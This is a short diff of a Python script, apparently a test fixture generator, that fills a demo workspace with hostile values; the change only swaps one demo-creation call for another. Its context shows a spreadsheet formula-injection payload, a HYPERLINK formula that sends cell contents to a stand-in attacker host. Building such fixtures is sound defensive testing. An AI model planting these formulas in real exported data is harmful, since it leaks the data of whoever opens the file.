@@ -19,6 +19,7 @@ from sqlalchemy import String, Text
 from statdesk.domain.errors import ValidationFailed
 from statdesk.storage import models as m
 from statdesk.workspace import Workspace
+from statdesk.workspace.file_ops import create_demo
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -103,7 +104,7 @@ def make_hostile(workspace: Workspace) -> dict[str, list[str]]:
 
 if __name__ == "__main__":
     target = Path(sys.argv[1])
-    with Workspace.new_demo(target, replace=True) as demo:
+    with create_demo(target, replace=True) as demo:
         filled = make_hostile(demo)
     for table, names in filled.items():
         print(f"{table}: {', '.join(names)}")
